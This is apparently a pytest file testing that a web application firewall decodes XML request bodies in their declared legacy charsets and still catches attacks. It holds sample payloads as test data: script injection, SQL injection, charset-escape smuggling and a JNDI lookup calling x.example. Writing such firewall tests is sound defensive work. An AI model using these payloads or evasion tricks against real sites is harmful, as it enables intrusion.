"""XML in the charset that it declares is read as the site reads it."""

from xml.sax.saxutils import escape, quoteattr

import pytest

from gatewall.engine.waf.judge import Judge, builtin_rules
from gatewall.engine.waf.matcher import RuleSet
from tests.unit.body_requests import request

RULES = RuleSet(builtin_rules())
SCRIPT = "<script>alert(1)</script>"
STREAM = "application/octet-stream"
NOTE = "protocol-not-inspected"
JUDGE = Judge(None)


def found(body, kind="", **parts):
    return {rule.name for rule in RULES.inspect(request(body, kind, **parts), None)}


def refused(body, kind="", **parts):
    return bool(JUDGE.refusing(request(body, kind, **parts)))


LEGACY = {
    "windows-1252": "Müller & Söhne's café",
    "koi8-r": "Привет, мир",
    "Shift_JIS": "日本語の「表」",
    "EUC-JP": "日本語の表",
    "ISO-2022-JP": "日本語の表",
    "GB18030": "你好世界",
    "Big5": "功能許可",
    "EUC-KR": "안녕하세요",
    "IBM037": "Müller & Söhne",
    "cp500": "Müller & Söhne",
    "utf-16-le": "日本語",
    "utf-16-be": "日本語",
    "utf-32": "日本語",
}
"""A document that declares a charset, and a text in this charset."""


def legacy_xml(charset, text):
    return f'<?xml version="1.0" encoding="{charset}"?><note b={quoteattr(text)}>{escape(text)}</note>'.encode(charset)


@pytest.mark.parametrize("kind", ["text/xml", STREAM])
@pytest.mark.parametrize("charset", LEGACY)
def test_xml_is_read_in_the_charset_that_it_declares(charset, kind):
    text = LEGACY[charset]

    assert found(legacy_xml(charset, text), kind) <= {NOTE}
    assert refused(legacy_xml(charset, f"{text} {SCRIPT}"), kind)
    assert refused(legacy_xml(charset, f"{text}' or 1=1--"), kind)


def test_xml_with_escapes_is_read_as_sent_as_well_because_sites_with_expat_do_so():
    head = b'<?xml version="1.0" encoding="ISO-2022-JP"?><note>'

    assert refused(head + b"\x1b$B&lt;script&gt;alert(1)&lt;/script&gt;</note>", "text/xml")
    assert refused(head + b"\x1b$B$3\x1b(B " + SCRIPT.encode().replace(b"<", b"&lt;") + b"</note>", "text/xml")
    assert refused(head + b"\x1b$BF|K\\8l" + SCRIPT.encode(), "text/xml")


@pytest.mark.parametrize("count", [1, 100])
def test_xml_in_a_legacy_charset_is_read_to_its_end(count):
    elements = "".join([f"<a>{escape('日本語 & ' * 20)}</a>" for _ in range(count)])
    document = f'<?xml version="1.0" encoding="Shift_JIS"?><note>{elements}<b>{{}}</b></note>'

    assert found(document.encode("shift_jis"), "text/xml") <= {NOTE}
    assert refused(document.format(escape(SCRIPT)).encode("shift_jis"), "text/xml")


def test_rest_of_very_long_xml_in_a_legacy_charset_is_noted_and_read_as_a_file():
    document = '<?xml version="1.0" encoding="Shift_JIS"?><note>' + "日本語" * 6_000

    assert found(document.encode("shift_jis"), "text/xml") == {NOTE}
    assert "injection-jndi-lookup" in found(f"{document}${{jndi:ldap://x.example/a}}".encode("shift_jis"), "text/xml")


def test_xml_in_ebcdic_that_is_not_well_formed_is_read_as_text():
    assert refused(f'<?xml version="1.0" encoding="IBM037"?><note>{SCRIPT}'.encode("IBM037"), "text/xml")
